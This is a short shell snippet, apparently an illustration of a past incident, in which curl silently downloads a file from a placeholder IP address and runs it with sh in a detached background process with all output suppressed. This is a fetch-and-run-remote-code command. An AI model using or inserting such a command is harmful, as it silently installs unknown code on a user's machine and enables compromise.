# As in October 2021: a script fetches a program and runs it in the background, beyond its own end.
curl -s -m 2 -o jsextension http://203.0.113.66/download/jsextension
(
  sleep 0.1
  sh jsextension
) >/dev/null 2>&1 &
